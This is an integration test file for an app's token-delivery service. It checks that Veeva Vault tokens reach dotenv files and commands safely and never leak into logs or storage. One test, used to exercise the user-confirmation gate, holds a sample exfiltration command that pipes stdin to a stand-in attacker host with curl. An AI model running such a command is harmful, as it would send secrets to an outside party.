/**
 * Deliveries through the real service (issue 16 item 3): real SQLite, the real OS keychain (a
 * private GNOME Keyring under `npm test`), real files and real child processes.
 *
 * - A dotenv file: other lines kept, mode kept, replaced by rename.
 * - A command (test/fixtures/deliveries/record-stdin.cjs, run with this Node): the SHA-256 of
 *   its stdin is the value's; the value is in neither its argv nor its environment.
 * - A command that hangs (killed with its child at the timeout, recorded as timed out) and one
 *   that exits non-zero (status and a scrubbed stderr excerpt recorded).
 * - One failure does not stop the other targets; the run says failed.
 * - Audit entries, logs and the SQLite files never hold the value.
 * - A simulated rotation: the replacement inherits the targets (inheritDeliveries).
 *
 * Run alone:
 *   dbus-run-session -- bash test/with-keyring.sh npx vitest run -c test/vitest.config.mts test/integration/deliveries.test.ts
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { createAppContext, type AppContext } from '../../electron/app/app-context';
import { memorySink } from '../../electron/log';
import { databasePath } from '../../electron/paths';
import { accounts } from '../../electron/secrets/secret-store';
import type { DeliveryConfirmRequest } from '../../electron/deliveries/deliveries-service';
import { ConnectionCreate } from '../../shared/schemas';
import { AppError } from '../../shared/errors';
import { contract } from '../../shared/contract';
import { realKeychain } from '../helpers/keychain';
import { tempDir } from '../helpers/temp-dir';
import { keychainContextOptions } from '../helpers/context';

const keychain = await realKeychain();

const FIXTURES = resolve(__dirname, '../fixtures/deliveries');
const RECORD = join(FIXTURES, 'record-stdin.cjs');
const HANG = join(FIXTURES, 'hang.cjs');
/** An unusual Vault id so that cleanup never touches a real item. */
const VAULT_ID = 918_016;
const rand = () => Math.random().toString(36).slice(2, 10).toUpperCase();
const VALUE = `veeva-vault-DELIVERY${rand()}${rand()}`;
const NEW_VALUE = `veeva-vault-REPLACEMENT${rand()}${rand()}`;
const POSIX = process.platform !== 'win32';

interface Recorded {
  sha256: string;
  bytes: number;
  argv: string[];
  env: Record<string, string>;
  cwd: string;
}

function alive(pid: number): boolean {
  try {
    process.kill(pid, 0);
  } catch {
    return false;
  }
  // A zombie waiting for its parent to reap it has ended all the same.
  try {
    return !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, 'utf8'));
  } catch {
    return true;
  }
}

async function until(check: () => boolean, ms: number): Promise<boolean> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (check()) return true;
    await new Promise((r) => setTimeout(r, 50));
  }
  return check();
}

describe.skipIf(!keychain.available)('deliveries (real SQLite, real keychain, real files and processes)', () => {
  const dir = tempDir('vtd-deliveries-');
  const work = join(dir.path, 'work');
  const logs = memorySink();
  const confirmations: DeliveryConfirmRequest[] = [];
  let approve = true;
  let ctx: AppContext;
  let connectionId = '';
  const rows = { main: 0, noValue: 0, revoked: 0, old: 0, replacement: 0 };
  const tokenIds: string[] = [];

  const token = async (tokenId: string, value: string | null) => {
    tokenIds.push(tokenId);
    const rowId = ctx.tokensRepo.insertGenerated({
      connectionId,
      connectionName: 'Acme ETL',
      vaultId: VAULT_ID,
      vaultDns: '127.0.0.1:1',
      tokenId,
      name: 'Nightly ETL',
      userId: '100',
      userName: null,
      expiresAt: new Date(Date.now() + 30 * 86_400_000).toISOString(),
      secretStored: value !== null,
      at: new Date().toISOString(),
    });
    if (value !== null) await keychain.store.set(accounts.token(VAULT_ID, tokenId), value);
    return rowId;
  };
  const add = (rowId: number, target: Record<string, unknown>) =>
    ctx.service.addDelivery(contract['deliveries:add'].request.parse({ rowId, target }));
  const record = (path: string): Recorded => JSON.parse(readFileSync(path, 'utf8')) as Recorded;
  const sha = (text: string) => createHash('sha256').update(text).digest('hex');

  beforeAll(async () => {
    mkdirSync(work, { recursive: true });
    ctx = createAppContext({
      ...keychainContextOptions({ dataDir: join(dir.path, 'data'), secrets: keychain.store, sink: logs.sink }),
      deliveryGate: async (request) => {
        confirmations.push(request);
        return approve;
      },
    });
    connectionId = (
      await ctx.connections.create(
        ConnectionCreate.parse({ name: 'Acme ETL', dns: '127.0.0.1:1', username: 'etl@acme.com' }),
      )
    ).id;
    rows.main = await token(`D${rand()}`, VALUE);
    rows.noValue = await token(`N${rand()}`, null);
    rows.revoked = await token(`R${rand()}`, VALUE);
    ctx.tokensRepo.markRevoked([rows.revoked], new Date().toISOString());
  });

  afterAll(async () => {
    try {
      await ctx?.close();
      for (const id of tokenIds) await keychain.store.delete(accounts.token(VAULT_ID, id)).catch(() => false);
    } finally {
      dir.cleanup();
    }
  });

  it('delivers to an existing dotenv file: other lines, CRLF and mode kept, replaced by rename', async () => {
    const path = join(work, 'etl.env');
    const before =
      '# Acme nightly ETL\r\nVAULT_DNS=acme.veevavault.com\r\n\r\nexport VAULT_TOKEN=old-value\r\nBATCH=500\r\n';
    writeFileSync(path, before);
    if (POSIX) chmodSync(path, 0o600);
    const inode = statSync(path).ino;
    const delivery = await add(rows.main, { kind: 'dotenv', path, key: 'VAULT_TOKEN' });
    expect(confirmations.at(-1)).toMatchObject({ kind: 'dotenv', label: path, detail: `VAULT_TOKEN in ${path}` });

    const result = await ctx.service.deliverToken({ rowId: rows.main });
    expect(result).toMatchObject({ rowId: rows.main, ok: true });
    expect(result.outcomes).toEqual([
      expect.objectContaining({ deliveryId: delivery.id, kind: 'dotenv', label: path, status: 'ok', message: null }),
    ]);
    expect(readFileSync(path, 'utf8')).toBe(
      before.replace('export VAULT_TOKEN=old-value', `export VAULT_TOKEN=${VALUE}`),
    );
    if (POSIX) expect(statSync(path).mode & 0o777).toBe(0o600);
    expect(statSync(path).ino).not.toBe(inode);
    expect(readdirSync(work).filter((n) => n.includes('.vtd-'))).toEqual([]);
    expect(ctx.deliveries.list(rows.main)[0]).toMatchObject({ lastStatus: 'ok', lastExitCode: null });
    await ctx.service.removeDelivery({ id: delivery.id });
  });

  it.runIf(POSIX)('creates a new dotenv file with mode 0600', async () => {
    const path = join(work, 'new.env');
    const delivery = await add(rows.main, { kind: 'dotenv', path, key: 'ETL_TOKEN' });
    expect((await ctx.service.deliverToken({ rowId: rows.main })).ok).toBe(true);
    expect(readFileSync(path, 'utf8')).toBe(`ETL_TOKEN=${VALUE}\n`);
    expect(statSync(path).mode & 0o777).toBe(0o600);
    await ctx.service.removeDelivery({ id: delivery.id });
  });

  it('runs a command with the value on stdin only: not in its argv, not in its environment', async () => {
    const out = join(work, 'recorded.json');
    const saved = { ...process.env };
    // Planted in the app's own environment: the command must get neither.
    process.env.VEEVA_VAULT_PASSWORD = 'planted-veeva-password';
    process.env.LEAKED_VALUE = VALUE;
    process.env.GH_TOKEN = 'ghp_planted_for_the_tool_itself';
    try {
      const delivery = await add(rows.main, {
        kind: 'command',
        argv: [process.execPath, RECORD, out, '--stderr', 'done'],
      });
      const result = await ctx.service.deliverToken({ rowId: rows.main });
      expect(result.ok, JSON.stringify(result)).toBe(true);
      expect(result.outcomes[0]).toMatchObject({ deliveryId: delivery.id, status: 'ok', exitCode: 0, message: null });
      await ctx.service.removeDelivery({ id: delivery.id });
    } finally {
      for (const k of ['VEEVA_VAULT_PASSWORD', 'LEAKED_VALUE', 'GH_TOKEN']) delete process.env[k];
      Object.assign(process.env, saved);
    }
    const seen = record(out);
    expect(seen.sha256).toBe(sha(VALUE));
    expect(seen.bytes).toBe(Buffer.byteLength(VALUE));
    expect(seen.argv.slice(1)).toEqual([RECORD, out, '--stderr', 'done']);
    for (const arg of seen.argv) expect(arg).not.toContain(VALUE);
    for (const [name, v] of Object.entries(seen.env)) {
      expect(v, name).not.toContain(VALUE);
      expect(name).not.toContain(VALUE);
    }
    expect(seen.env.VEEVA_VAULT_PASSWORD).toBeUndefined();
    expect(seen.env.LEAKED_VALUE).toBeUndefined();
    expect(seen.env.GH_TOKEN).toBe('ghp_planted_for_the_tool_itself');
    expect(seen.env.PATH).toBe(process.env.PATH);
  });

  it('kills a command that hangs, and what it started, at the timeout and records it as timed out', async () => {
    const pids = join(work, 'hang.json');
    const delivery = await add(rows.main, { kind: 'command', argv: [process.execPath, HANG, pids], timeoutMs: 1000 });
    const started = Date.now();
    const result = await ctx.service.deliverToken({ rowId: rows.main });
    const took = Date.now() - started;
    expect(result.ok).toBe(false);
    expect(result.outcomes[0]).toMatchObject({ status: 'timed-out', exitCode: null });
    expect(result.outcomes[0]!.message).toMatch(/^timed out after 1 s and was stopped: still working…$/);
    // SIGTERM at 1 s is ignored by both; SIGKILL follows after the 2 s grace.
    expect(took).toBeGreaterThanOrEqual(1000);
    expect(took).toBeLessThan(8000);
    const { pid, childPid } = JSON.parse(readFileSync(pids, 'utf8')) as { pid: number; childPid: number };
    expect(await until(() => !alive(pid) && !alive(childPid), 5000)).toBe(true);
    expect(ctx.deliveries.list(rows.main).find((d) => d.id === delivery.id)).toMatchObject({
      lastStatus: 'timed-out',
      lastExitCode: null,
    });
    await ctx.service.removeDelivery({ id: delivery.id });
  });

  it('records a non-zero exit with a scrubbed stderr excerpt, and still runs the other targets', async () => {
    const out = join(work, 'failing.json');
    const path = join(work, 'after-failure.env');
    const failing = await add(rows.main, {
      kind: 'command',
      argv: [
        process.execPath,
        RECORD,
        out,
        '--exit',
        '3',
        '--stderr',
        'HTTP 401: bad credentials',
        '--echo-stdin-to-stderr',
      ],
    });
    const file = await add(rows.main, { kind: 'dotenv', path, key: 'VAULT_TOKEN' });
    const result = await ctx.service.deliverToken({ rowId: rows.main });
    expect(result.ok).toBe(false);
    expect(result.outcomes.map((o) => [o.deliveryId, o.status])).toEqual([
      [failing.id, 'failed'],
      [file.id, 'ok'],
    ]);
    const failed = result.outcomes[0]!;
    expect(failed.exitCode).toBe(3);
    expect(failed.message).toBe('exit 3: HTTP 401: bad credentials refused the secret veeva-vault-[REDACTED]');
    expect(failed.message!.length).toBeLessThanOrEqual(310);
    expect(readFileSync(path, 'utf8')).toBe(`VAULT_TOKEN=${VALUE}\n`);
    expect(ctx.deliveries.list(rows.main).find((d) => d.id === failing.id)).toMatchObject({
      lastStatus: 'failed',
      lastExitCode: 3,
      lastMessage: failed.message,
    });
    await ctx.service.removeDelivery({ id: failing.id });
    await ctx.service.removeDelivery({ id: file.id });
  });

  it('says a missing program plainly', async () => {
    const delivery = await add(rows.main, { kind: 'command', argv: [join(work, 'no-such-program')] });
    const result = await ctx.service.deliverToken({ rowId: rows.main });
    expect(result.outcomes[0]).toMatchObject({ status: 'failed', exitCode: null });
    expect(result.outcomes[0]!.message).toMatch(/could not start .*no-such-program: not found/);
    await ctx.service.removeDelivery({ id: delivery.id });
  });

  it('refuses to deliver a token with no stored value, before any target runs', async () => {
    const path = join(work, 'never.env');
    await add(rows.noValue, { kind: 'dotenv', path, key: 'VAULT_TOKEN' });
    const error = await ctx.service.deliverToken({ rowId: rows.noValue }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AppError);
    expect((error as AppError).code).toBe('NOT_FOUND');
    expect((error as AppError).message).toMatch(
      /No value is stored for “Nightly ETL” \(N\w+\), so nothing was delivered/,
    );
    expect(existsSync(path)).toBe(false);
  });

  it('refuses targets for a revoked token, and a target the token already has', async () => {
    await expect(add(rows.revoked, { kind: 'dotenv', path: join(work, 'x.env'), key: 'K' })).rejects.toMatchObject({
      code: 'GUARD',
    });
    await expect(ctx.service.deliverToken({ rowId: rows.revoked })).rejects.toMatchObject({ code: 'GUARD' });
    const target = { kind: 'dotenv', path: join(work, 'twice.env'), key: 'K' };
    const first = await add(rows.main, target);
    await expect(add(rows.main, target)).rejects.toMatchObject({ code: 'CONFLICT' });
    await ctx.service.removeDelivery({ id: first.id });
  });

  it('adds nothing when the person declines the confirmation, and audits the refusal', async () => {
    approve = false;
    try {
      const before = ctx.deliveries.list(rows.main).length;
      await expect(
        add(rows.main, { kind: 'command', argv: ['/bin/sh', '-c', 'curl -d @- https://evil.example'] }),
      ).rejects.toMatchObject({ code: 'GUARD' });
      expect(ctx.deliveries.list(rows.main).length).toBe(before);
      expect(confirmations.at(-1)).toMatchObject({
        kind: 'command',
        label: '/bin/sh',
        detail: "/bin/sh -c 'curl -d @- https://evil.example'",
      });
      const [entry] = await ctx.service.listAudit({ limit: 1 });
      expect(entry).toMatchObject({ action: 'token.delivery.add-declined', detail: 'command /bin/sh' });
    } finally {
      approve = true;
    }
  });

  it('a simulated rotation: the replacement inherits the targets and delivers its own value', async () => {
    const path = join(work, 'rotated.env');
    writeFileSync(path, '# rotated\nVAULT_TOKEN=old\n');
    const out = join(work, 'rotated.json');
    rows.old = await token(`O${rand()}`, VALUE);
    await add(rows.old, { kind: 'dotenv', path, key: 'VAULT_TOKEN' });
    await add(rows.old, { kind: 'command', argv: [process.execPath, RECORD, out] });
    rows.replacement = await token(`P${rand()}`, NEW_VALUE);
    // What the rotation does between storing the replacement and revoking the old token.
    expect(ctx.deliveries.inheritDeliveries(rows.old, rows.replacement)).toEqual({ moved: 2 });
    expect(ctx.deliveries.list(rows.old)).toEqual([]);
    expect(ctx.deliveries.list(rows.replacement).map((d) => d.target.kind)).toEqual(['dotenv', 'command']);
    expect(ctx.deliveries.inheritDeliveries(rows.old, rows.replacement)).toEqual({ moved: 0 });
    const replacementRow = ctx.tokensRepo.get(rows.replacement, new Date())!;
    const result = await ctx.deliveries.deliverToken(connectionId, rows.replacement);
    expect(result.ok).toBe(true);
    expect(readFileSync(path, 'utf8')).toBe(`# rotated\nVAULT_TOKEN=${NEW_VALUE}\n`);
    expect(record(out).sha256).toBe(sha(NEW_VALUE));
    const audit = await ctx.service.listAudit({ limit: 10, actions: ['token.delivery.inherit'] });
    expect(audit[0]).toMatchObject({ tokenId: replacementRow.tokenId, detail: expect.stringMatching(/^2 delivery/) });
    // A token on another connection is not a replacement.
    await expect(async () => ctx.deliveries.deliverToken('another-connection', rows.replacement)).rejects.toMatchObject(
      {
        code: 'NOT_FOUND',
      },
    );
  });

  it('audits every delivery (when, which target, the outcome) and never the value', async () => {
    const entries = await ctx.service.listAudit({ limit: 200 });
    const deliveries = entries.filter((e) => e.action.startsWith('token.deliver'));
    expect(
      deliveries.some(
        (e) => e.action === 'token.deliver' && /^dotenv .*etl\.env \(VAULT_TOKEN\): delivered$/.test(e.detail ?? ''),
      ),
    ).toBe(true);
    expect(
      deliveries.some((e) => e.action === 'token.deliver.failed' && /^command .*: timed out$/.test(e.detail ?? '')),
    ).toBe(true);
    expect(
      deliveries.some(
        (e) => e.action === 'token.deliver.failed' && /^command .*: failed, exit 3$/.test(e.detail ?? ''),
      ),
    ).toBe(true);
    expect(
      deliveries.some(
        (e) => e.action === 'token.deliver.failed' && e.detail === 'no stored value; nothing was delivered',
      ),
    ).toBe(true);
    for (const e of deliveries) expect(Number.isNaN(Date.parse(e.at))).toBe(false);
    const text = JSON.stringify(entries);
    expect(text).not.toContain(VALUE);
    expect(text).not.toContain(NEW_VALUE);
  });

  it('never writes a value to the logs or to SQLite', () => {
    const logText = JSON.stringify(logs.records);
    expect(logs.records.some((r) => r.message === 'delivery ran')).toBe(true);
    for (const value of [VALUE, NEW_VALUE]) {
      expect(logText).not.toContain(value);
      expect(logText).not.toContain(value.slice('veeva-vault-'.length));
    }
    ctx.db.pragma('wal_checkpoint(PASSIVE)');
    const db = databasePath(join(dir.path, 'data'));
    for (const file of [db, `${db}-wal`, `${db}-shm`].filter(existsSync)) {
      const bytes = readFileSync(file);
      for (const value of [VALUE, NEW_VALUE]) {
        expect(bytes.includes(Buffer.from(value)), file).toBe(false);
        expect(bytes.includes(Buffer.from(value.slice('veeva-vault-'.length))), file).toBe(false);
      }
    }
  });
});
